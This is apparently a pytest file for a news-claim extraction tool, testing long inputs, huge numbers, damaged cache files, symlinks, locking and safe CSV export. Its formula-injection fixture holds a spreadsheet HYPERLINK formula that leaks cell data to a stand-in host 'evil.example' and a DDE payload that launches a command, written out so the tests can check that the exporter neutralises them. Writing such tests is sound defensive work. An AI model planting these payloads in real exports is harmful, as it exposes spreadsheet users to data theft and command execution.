"""Issue 14, hardening: long articles, CSV cells no spreadsheet runs and no
csv reader refuses, exports that never clobber (tests/test_export.py), state
files and names that cannot crash a run, the edges of the file system and
the process, and numbers too big for a float. Each test pins a case that
crashed or misbehaved before."""
import csv
import io
import json
import math
import re
import sqlite3
from pathlib import Path

import pytest
from click.testing import CliRunner

from pipeline import extract_claims, ingest
from pipeline.cli import cli
from pipeline.model import Claim
from pipeline.nlp import split_text
from pipeline.numbers import find_quantities
from pipeline.report.table import MAX_CSV_TEXT, claims_csv

from .conftest import cached_ids
from .test_robustness import assert_one_line_error, check, folder  # noqa: F401 (a fixture)

FIGURE = "The agency said it received about 29.2 million reports in 2024.\n"
FILLER = "Lorem ipsum dolor sit amet, consectetur adipiscing elit, sed do eiusmod tempor. " * 10


def long_text(chars: int) -> str:
    """An article of about ``chars`` characters: filler paragraphs (which
    the model's pre-filter blanks, so this stays quick) and a figure now and
    then, the last one near the end."""
    block = (FILLER + "\n") * 40 + FIGURE
    return block * (chars // len(block) + 1)


def invoke(*args, **kwargs):
    return CliRunner().invoke(cli, [str(a) for a in args], **kwargs)


def read_csv(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


# --- long articles ----------------------------------------------------------

def test_split_text_joins_back_and_cuts_after_line_breaks():
    text = "a b c\n" * 50 + "x" * 40 + " " + "y" * 30
    assert split_text(text, 1000) == [text]
    pieces = split_text(text, 100, piece=25)
    assert "".join(pieces) == text and all(len(p) <= 25 for p in pieces)
    assert all(p.endswith("\n") for p in pieces[:-4])
    assert pieces[-4:] == ["x" * 25, "x" * 15 + " ", "y" * 25, "y" * 5]


def test_text_over_spacy_max_length_is_read_in_pieces(tmp_path):
    text = long_text(1_200_000)
    assert len(text) > 1_000_000
    src = tmp_path / "sources"
    src.mkdir()
    (src / "long.txt").write_text(text, encoding="utf-8")
    r = check(src, tmp_path)
    assert r.exit_code == 0, r.output
    rows = read_csv((tmp_path / "claims" / "claims.csv").read_text(encoding="utf-8"))
    assert len(rows) == text.count(FIGURE)  # "about 29.2 million" in each
    for row in rows:
        start, end = int(row["start_char"]), int(row["end_char"])
        assert text[start:end] == row["text"]
    assert int(rows[-1]["start_char"]) > 1_000_000


def test_long_standard_input_is_read_in_pieces():
    text = long_text(1_080_000)
    r = invoke("extract", "-", "-f", "jsonl", input=text.encode("utf-8"))
    assert r.exit_code == 0, r.stderr
    rows = [json.loads(line) for line in r.stdout.splitlines()]
    assert rows and all(text[c["start_char"]:c["end_char"]] == c["text"] for c in rows)
    assert max(c["end_char"] for c in rows) > 1_000_000


def test_no_csv_field_breaks_a_standard_reader(tmp_path):
    # a page without line breaks: its sentence is longer than csv's field limit
    line = "x" * 150_000 + " and 12 people came."
    (tmp_path / "a.txt").write_text(line + "\n", encoding="utf-8")
    r = invoke("extract", tmp_path / "a.txt", "-f", "csv")
    assert r.exit_code == 0, r.stderr
    rows = read_csv(r.stdout)  # csv's default limit: 131,072 characters
    assert rows and all(len(v) <= MAX_CSV_TEXT for row in rows for v in row.values())
    assert rows[0]["sentence"].endswith("…")
    json_rows = json.loads(invoke("extract", tmp_path / "a.txt", "-f", "json").stdout)
    assert len(json_rows[0]["sentence"]) > MAX_CSV_TEXT  # JSON keeps it whole


# --- CSV formula injection ----------------------------------------------------

EVIL = ('=HYPERLINK("http://evil.example/?leak="&A1,"12 people were hurt")\n'
        "+12+cmd|' /C calc'!A0 said 40 people came in 2024.\n"
        "@SUM(1+1) 300 jobs were cut in 2022.\n"
        "Sales fell by -3.5% in 2024, the company said.\n"
        "The deposit rate stood at -0.5% in 2024, the bank said.\n")
FORMULA = ("=", "+", "-", "@", "\t", "\r")


def assert_no_formula_cells(rows: list[dict], numeric=("value", "low", "high", "start_char",
                                                       "end_char", "confidence")):
    for row in rows:
        for k, v in row.items():
            if k in numeric:
                float(v or "nan")  # numbers stay numbers
            elif v[:1] in FORMULA:
                assert re.fullmatch(r"[+-]?(?:\d{1,3}(?:,\d{3})+|\d+)(?:\.\d+)?%?", v), (k, v)


def test_claims_csv_neutralises_formula_cells_and_keeps_numbers(tmp_path):
    src = tmp_path / "sources"
    src.mkdir()
    (src / "evil.txt").write_text(EVIL, encoding="utf-8")
    assert check(src, tmp_path).exit_code == 0
    rows = read_csv((tmp_path / "claims" / "claims.csv").read_text(encoding="utf-8"))
    assert_no_formula_cells(rows)
    sentences = {r["sentence"] for r in rows}
    assert "'@SUM(1+1) 300 jobs were cut in 2022." in sentences
    assert any(s.startswith("'=HYPERLINK(") for s in sentences)
    drop = next(r for r in rows if r["text"] == "-3.5%")
    assert drop["value"] == "3.5" and drop["text"] == "-3.5%"  # a signed text is data
    level = next(r for r in rows if r["text"] == "-0.5%")       # (a fall's size is 3.5)
    assert level["value"] == "-0.5"                             # ... and so is a signed number
    # extract -f csv writes the same cells; JSON keeps the text exact
    out = invoke("extract", src / "evil.txt", "-f", "csv").stdout
    assert_no_formula_cells(read_csv(out))
    exact = json.loads(invoke("extract", src / "evil.txt", "-f", "json").stdout)
    assert any(c["sentence"].startswith("=HYPERLINK(") for c in exact)
    # and so does the SQLite export, read back from claims.csv
    db = tmp_path / "claims.db"
    r = invoke("export", "--sqlite", db, "--claims-dir", tmp_path / "claims",
               "--reports-dir", tmp_path / "reports", "--sources-dir", src)
    assert r.exit_code == 0, r.output
    with sqlite3.connect(db) as con:
        stored = {s for (s,) in con.execute("select sentence from claims")}
    assert stored == {c["sentence"] for c in exact}


def test_frame_and_list_tables_write_the_same_safe_csv():
    claim = Claim("c1", "s", "=1+2 and '=3 said 12 people", 17, 19, "12", "count", -12.0,
                  -12.5, -11.5, unit="+")
    from pipeline.api import claims_frame
    text = claims_csv([claim])
    assert text == claims_csv(claims_frame([claim]))
    (row,) = read_csv(text)
    assert row["sentence"] == "'=1+2 and '=3 said 12 people" and row["unit"] == "'+"
    assert row["value"] == "-12.0"


@pytest.mark.parametrize("value", ["=cmd", "'=cmd", "''@x", "-2+3", "+", "'hello", "-3.5",
                                   "plain", "\tx", ""])
def test_csv_cells_read_back_exactly(value):
    from pipeline.files import csv_cell, csv_value
    assert csv_value(csv_cell(value)) == value
    assert csv_cell(value)[:1] not in ("=", "+", "@", "\t") or value in ("-3.5",)


def test_reviews_and_sources_csv_neutralise_and_read_back(sources_copy, tmp_path):
    art = tmp_path / "new.txt"
    art.write_text("Sales rose 12% to 300 units in 2024.\n", encoding="utf-8")
    r = invoke("add", art, "--sources-dir", sources_copy, "--title", '=HYPERLINK("x")')
    assert r.exit_code == 0, r.output
    text = (sources_copy / "sources.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK" in text
    assert ingest.read_metadata(sources_copy)["new.txt"]["title"] == '=HYPERLINK("x")'
    assert check(sources_copy, tmp_path).exit_code == 0
    doc = json.loads((tmp_path / "reports" / "findings.json").read_text())
    fid = doc["findings"][0]["finding_id"]
    r = invoke("review", fid, "--verdict", "dismissed", "--note", "@SUM(A1)", "--by", "-me",
               "--reports-dir", tmp_path / "reports")
    assert r.exit_code == 0, r.output
    (row,) = read_csv((tmp_path / "reports" / "reviews.csv").read_text())
    assert row["note"] == "'@SUM(A1)" and row["by"] == "'-me"
    assert check(sources_copy, tmp_path).exit_code == 0
    doc = json.loads((tmp_path / "reports" / "findings.json").read_text())
    review = next(f["review"] for f in doc["findings"] if f["finding_id"] == fid)
    assert review["note"] == "@SUM(A1)" and review["by"] == "-me"


# --- numbers too big for a float -----------------------------------------------

HUGE = [
    "It cost 1" + "0" * 320 + " dollars in 2024.",
    "Between 5 and " + "9" * 400 + " people came.",
    "From 1" + "0" * 400 + " to 2" + "0" * 400 + " units.",
    "1" + "0" * 400 + "-2" + "0" * 400 + " people",
    "A total of " + "9" * 310 + "e-900 cases.",
    "1" + "0" * 305 + " billion people",
]


@pytest.mark.parametrize("text", HUGE, ids=range(len(HUGE)))
def test_numbers_beyond_a_float_are_no_figures(text):
    for q in find_quantities(text):
        assert math.isfinite(q.value) and not math.isnan(q.low) and not math.isnan(q.high)
    assert not any(q.value > 1e300 for q in find_quantities(text))


def test_huge_numbers_give_no_nan_claims():
    frame = extract_claims(" ".join(HUGE) + " Sales rose 12% in 2024.")
    assert not frame[["value", "low", "high"]].isna().any().any()
    assert "12%" in set(frame["text"])


# --- state files and names ----------------------------------------------------------

def claims_of(tmp_path) -> list[dict]:
    return read_csv((tmp_path / "claims" / "claims.csv").read_text(encoding="utf-8"))


DAMAGE = [
    ("text not a string", {"text": 123}),
    ("claims not records", {"claims": [1, 2]}),
    ("claim value a string", "value"),
    ("span outside the text", "start_char"),
    ("blocks past the end", {"blocks": [[0, 10 ** 6, "paragraph"]]}),
    ("meta not a mapping", {"meta": [1]}),
    ("not an object", None),
]


@pytest.mark.parametrize("case, damage", DAMAGE, ids=[d[0] for d in DAMAGE])
def test_damaged_cache_entry_is_dropped_and_read_afresh(folder, tmp_path, case, damage,
                                                       json_cache):
    assert check(folder, tmp_path).exit_code == 0
    before = claims_of(tmp_path)
    entry_path = tmp_path / "claims" / ".cache" / "a.json"
    entry = json.loads(entry_path.read_text())
    if damage is None:
        entry = [entry]
    elif isinstance(damage, str):
        entry["claims"][0][damage] = "x" if damage == "value" else 10 ** 6
    else:
        entry.update(damage)
    entry_path.write_text(json.dumps(entry))
    r = check(folder, tmp_path)
    assert r.exit_code == 0, r.output
    assert claims_of(tmp_path) == before
    assert json.loads(entry_path.read_text())["text"].startswith("The city")  # rewritten


def test_reviews_csv_with_columns_reordered_by_hand(sources_copy, tmp_path):
    assert check(sources_copy, tmp_path).exit_code == 0
    doc = json.loads((tmp_path / "reports" / "findings.json").read_text())
    first, second = doc["findings"][0]["finding_id"], doc["findings"][1]["finding_id"]
    reviews = tmp_path / "reports" / "reviews.csv"
    reviews.write_text("reviewed_at,note,verdict,by,finding_id\n"
                       f"2026-11-22T10:00:00Z,seen,confirmed,desk,{first}\n", encoding="utf-8")
    r = invoke("review", second, "--verdict", "dismissed", "--note", "fine", "--by", "me",
               "--reports-dir", tmp_path / "reports")
    assert r.exit_code == 0, r.output
    rows = read_csv(reviews.read_text(encoding="utf-8"))
    assert [(x["finding_id"], x["verdict"], x["by"]) for x in rows] == \
        [(first, "confirmed", "desk"), (second, "dismissed", "me")]
    assert check(sources_copy, tmp_path).exit_code == 0
    doc = json.loads((tmp_path / "reports" / "findings.json").read_text())
    verdicts = {f["finding_id"]: (f["review"] or {}).get("verdict") for f in doc["findings"]}
    assert verdicts[first] == "confirmed" and verdicts[second] == "dismissed"


def test_undecodable_and_very_long_file_names(tmp_path):
    import os
    src = tmp_path / "sources"
    src.mkdir()
    story = b"The city counted 4,100 visitors in 2023, up from 3,900 in 2022.\n"
    with open(os.path.join(os.fsencode(src), b"caf\xe9.txt"), "wb") as fh:
        fh.write(story)
    (src / ("x" * 246 + ".txt")).write_text("Sales rose 12% to 300 units in 2024.\n")
    r = check(src, tmp_path)
    assert r.exit_code == 0, r.output
    assert {row["source_id"] for row in claims_of(tmp_path)} == {"caf\ufffd", "x" * 246}
    assert check(src, tmp_path).exit_code == 0
    doc = json.loads((tmp_path / "reports" / "findings.json").read_text())
    assert doc["run"]["reprocessed"] == 0  # both came from the cache
    r = invoke("add", os.path.join(os.fsencode(src), b"caf\xe9.txt").decode(
        "utf-8", "surrogateescape"), "--sources-dir", tmp_path / "other")
    assert_one_line_error(r, "is not UTF-8 text; rename the file")


def test_unknown_model_is_a_one_line_error(folder, tmp_path):
    r = check(folder, tmp_path, "--model", "notamodel")
    assert_one_line_error(r, "spaCy model 'notamodel' is not installed", "--model")
    r = invoke("extract", folder / "a.txt", "--model", "notamodel")
    assert_one_line_error(r, "spaCy model 'notamodel' is not installed")


def test_html_script_and_style_are_never_article_text():
    page = ("<html><head><style>.x { width: 500px }</style>"
            "<script>var total = 999; var share = '42%';</script></head><body>"
            "<p>The city counted 4,100 visitors in 2023, officials said on Monday.</p>"
            "<script>document.write('<p>Sales rose 45% in 2024 to 300 units.</p>');</script>"
            "<style>p::after { content: '</b> 700 units' }</style>"
            "<p>More would come, they said.</p></body></html>")
    text, _ = ingest.html_article(page)
    for junk in ("999", "42%", "500px", "45%", "700"):
        assert junk not in text
    assert "4,100 visitors" in text
    # cut before trafilatura reads the page; JSON-LD metadata stays
    ld = '<script type="application/ld+json">{"datePublished": "2024-03-01"}</script>'
    assert ingest.without_code(f"<head>{ld}<SCRIPT src=x></SCRIPT><style media=x>p{{}}"
                               "</style ></head><p>x</p><script>var a = '</b>';</script>") \
        == f"<head>{ld}</head><p>x</p>"
    _, meta = ingest.html_article(page.replace("<head>", f"<head>{ld}"))
    assert meta["date"] == "2024-03-01"


def test_missing_html_cleaner_skips_the_page_with_a_warning(folder, tmp_path, monkeypatch):
    import trafilatura

    def no_cleaner(*args, **kwargs):
        raise ImportError("lxml.html.clean module is now a separate project",
                          name="lxml_html_clean")
    monkeypatch.setattr(trafilatura, "bare_extraction", no_cleaner)
    (folder / "page.html").write_text("<html><body><p>Sales rose 12% in 2024.</p></body></html>")
    r = check(folder, tmp_path)
    assert r.exit_code == 0, r.output
    assert "skipped: cannot read web page" in r.stderr and "pip install lxml_html_clean" \
        in r.stderr
    assert {row["source_id"] for row in claims_of(tmp_path)} == {"a"}


# --- the file system and the process ------------------------------------------------

def test_symlink_out_of_the_sources_folder_is_skipped(folder, tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("The memo counted 99 items in 2020, the office said.\n")
    (folder / "b.txt").symlink_to(secret)
    (folder / "inside.md").symlink_to(folder / "a.txt")  # inside: read (here, a duplicate)
    r = check(folder, tmp_path)
    assert r.exit_code == 0
    assert f"skipped: {folder / 'b.txt'} is a symbolic link to {secret}, outside" in r.stderr
    assert {row["source_id"] for row in claims_of(tmp_path)} == {"a"}
    assert cached_ids(tmp_path / "claims") == {"a"}


def test_symlinked_lock_file_is_refused(folder, tmp_path):
    (tmp_path / "reports").mkdir()
    target = tmp_path / "elsewhere"
    (tmp_path / "reports" / ".lock").symlink_to(target)
    r = check(folder, tmp_path)
    assert_one_line_error(r, ".lock is a symbolic link")
    assert not target.exists()


def test_closed_stdout_is_quiet(folder, tmp_path):
    import subprocess
    import sys
    cmd = [sys.executable, "-c", "from pipeline.cli import cli; cli()", "check", str(folder),
           "--claims-dir", str(tmp_path / "claims"), "--reports-dir", str(tmp_path / "reports")]
    p = subprocess.Popen(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                         cwd=str(Path(__file__).resolve().parent.parent))
    p.stdout.close()  # like `| true`: nobody reads the summary
    err = p.stderr.read().decode()
    assert p.wait() == 0 and err == ""
    assert (tmp_path / "reports" / "report.html").exists()


def test_ctrl_c_exits_130_and_leaves_no_temporary_file(folder, tmp_path, monkeypatch):
    import pipeline.report as report

    def interrupted(*args, **kwargs):  # report.html is written in pieces: stop mid-file
        yield "<!doctype html>"
        raise KeyboardInterrupt
    monkeypatch.setattr(report, "html_pieces", interrupted)
    r = check(folder, tmp_path)
    assert r.exit_code == 130
    assert "Interrupted" in r.stderr and "Traceback" not in r.output
    assert not list((tmp_path / "reports").glob(".*.tmp"))


def test_stale_temporary_files_are_swept(folder, tmp_path):
    assert check(folder, tmp_path).exit_code == 0
    stale = [tmp_path / "reports" / ".findings.json.k1l2m3.tmp",
             tmp_path / "reports" / ".reviews.csv.abc123.tmp",
             tmp_path / "claims" / ".claims.csv.q9w8e7.tmp",
             tmp_path / "claims" / ".cache" / ".a.json.zz11yy.tmp"]
    for p in stale:
        p.write_text("half a file")
    other = tmp_path / "reports" / ".notes.txt.tmp"  # not a file claimcheck writes here
    other.write_text("mine")
    assert check(folder, tmp_path).exit_code == 0
    assert not any(p.exists() for p in stale) and other.exists()


def test_claims_folder_is_locked(folder, tmp_path, monkeypatch):
    from pipeline import files
    monkeypatch.setattr(files, "DEFAULT_LOCK_TIMEOUT", 0)
    with files.locked(tmp_path / "claims"):
        r = invoke("check", folder, "--claims-dir", tmp_path / "claims",
                   "--reports-dir", tmp_path / "other-reports")
    assert_one_line_error(r, "another claimcheck run", str(tmp_path / "claims"))
    # one folder for both: locked once, no wait on itself
    r = invoke("check", folder, "--claims-dir", tmp_path / "out", "--reports-dir",
               tmp_path / "out")
    assert r.exit_code == 0, r.output


def test_outputs_of_one_run_carry_its_stamp(folder, tmp_path):
    import hashlib
    assert check(folder, tmp_path).exit_code == 0
    doc = json.loads((tmp_path / "reports" / "findings.json").read_text())
    table = (tmp_path / "claims" / "claims.csv").read_bytes()
    assert doc["run"]["claims_sha256"] == hashlib.sha256(table).hexdigest()
    stamp = f"Run {doc['run']['id']}, "
    for name in ("report.md", "report.html"):
        assert stamp in (tmp_path / "reports" / name).read_text()
    assert check(folder, tmp_path).exit_code == 0
    md = (tmp_path / "reports" / "report.md").read_text()
    assert check(folder, tmp_path).exit_code == 0  # the same result: the same stamp
    assert (tmp_path / "reports" / "report.md").read_text() == md


def test_unchanged_result_keeps_its_time_and_a_new_one_gets_a_new_time(folder, tmp_path):
    """"Generated at" is when a result was first written: a check that finds
    the same as the last keeps it (so its reports are the same bytes however
    many seconds apart the runs are), and one that finds anything else says now."""
    assert check(folder, tmp_path).exit_code == 0
    path = tmp_path / "reports" / "findings.json"
    doc = json.loads(path.read_text())
    long_ago = "2001-02-03T04:05:06Z"
    path.write_text(path.read_text().replace(doc["generated_at"], long_ago))
    assert check(folder, tmp_path).exit_code == 0
    for name in ("findings.json", "report.md", "report.html"):
        assert long_ago in (tmp_path / "reports" / name).read_text(), name
    (folder / "b.txt").write_text("The city counted 412 new homes in 2023, officials said.\n",
                                  encoding="utf-8")
    assert check(folder, tmp_path).exit_code == 0
    for name in ("findings.json", "report.md", "report.html"):
        assert long_ago not in (tmp_path / "reports" / name).read_text(), name


def _head(when='"2001-02-03T04:05:06Z"', version=None, run='{"id": "abc", "articles": 3}'):
    from pipeline import __version__
    return (f'{{\n  "generated_at": {when},\n  "tool_version": "{version or __version__}",\n'
            f'  "run": {run},\n  "sources": []\n}}\n')


@pytest.mark.parametrize("head, carried", [
    (_head(), True),
    ("", False), ("not json at all\n", False),
    ('{"generated_at": "2001-02-03T04:05:06Z", "run": {"id": "abc", "articles": 3}}\n', False),
    (_head(when="5"), False),                                       # a time that is no string
    (_head(run='{"id": "other", "articles": 3}'), False),          # another result
    (_head(run='{"id": "abc", "articles": 4}'), False),            # another article count
    (_head(version="0.0.0-old"), False),                          # another version of the tool
])
def test_carried_time_needs_the_same_result_articles_and_version(tmp_path, head, carried):
    from pipeline.report import carried_time
    path = tmp_path / "findings.json"
    path.write_text(head)
    assert carried_time(path, {"id": "abc"}, 3) == ("2001-02-03T04:05:06Z" if carried else None)
    assert carried_time(tmp_path / "missing.json", {"id": "abc"}, 3) is None


# --- properties: no text makes extraction raise -----------------------------------

from hypothesis import HealthCheck, example, given, settings  # noqa: E402
from hypothesis import strategies as st  # noqa: E402

HUGE_NUMBER = st.one_of(
    st.integers(300, 420).map(lambda n: "1" + "0" * n),
    st.integers(300, 420).map(lambda n: "9" * n + "e-900"),
    st.integers(20, 400).map(lambda n: "between 5 and " + "9" * n),
    st.integers(300, 400).map(lambda n: "$" + "1," * 10 + "0" * n + " billion"),
)
# (a line holding a thousand figures takes attribution half a minute: kept to a hundred)
LONG_LINE = st.integers(2_000, 40_000).map(lambda n: "x" * n) | \
    st.integers(20, 60).map(lambda n: "ab 12 " * n)
CONTROL = st.text(alphabet=st.characters(max_codepoint=0x9f, whitelist_categories=("Cc",)),
                  min_size=1, max_size=5)
WORDS = st.sampled_from(["Sales", " rose", " 12%", " to", " 3.5 million", " in 2024", ".",
                         "\n", " about", " nearly", " -4.2", " =SUM(A1)", " @x", " +7",
                         " people", " a day", " one", " thousand", "½", "–"])
ARTICLE = st.lists(st.one_of(WORDS, HUGE_NUMBER, LONG_LINE, CONTROL,
                             st.text(max_size=30)), max_size=8).map("".join)


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow,
                                                                 HealthCheck.data_too_large])
@given(ARTICLE)
def test_extract_claims_takes_any_text(text):
    frame = extract_claims(text)
    for row in frame.to_dict("records"):
        assert text[row["start_char"]:row["end_char"]] == row["text"]
        assert not any(math.isnan(row[k]) for k in ("value", "low", "high"))
        assert math.isfinite(row["value"]) and row["low"] <= row["high"]


@settings(max_examples=20, deadline=None, suppress_health_check=[HealthCheck.too_slow,
                                                                 HealthCheck.data_too_large])
@given(ARTICLE, st.sampled_from(["csv", "json", "jsonl"]))
@example(" 12%\x85\x7f", "jsonl")  # NEL in a sentence: a line break to str.splitlines, not to JSONL
@example(" -4.2.", "csv")  # a sentence cell that looks like a number but is none: quoted
def test_extract_from_stdin_gives_claims_or_a_one_line_error(text, fmt):
    r = invoke("extract", "-", "-f", fmt, input=text.encode("utf-8", "surrogatepass"))
    if r.exit_code == 2:
        assert_one_line_error(r)
        return
    assert r.exit_code == 0 and r.exception is None, r.output
    if fmt == "csv":
        rows = read_csv(r.stdout)
        assert_no_formula_cells(rows)
    else:
        rows = json.loads(r.stdout) if fmt == "json" else \
            [json.loads(line) for line in r.stdout.split("\n") if line]  # JSON Lines: "\n" ends a row
    assert all(row["source_id"] == "stdin" for row in rows)


def test_a_lone_carriage_return_never_breaks_a_csv_reader():
    # found by the property test: 'Sales\r0' wrote a sentence cell that csv
    # writers leave unquoted and csv readers split
    from pipeline.files import csv_cell
    assert csv_cell("Sales\r0") == "Sales\n0" and csv_cell("a\r\nb") == "a\nb"
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerow([csv_cell("Sales\r0"), "x"])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["Sales\n0", "x"]]
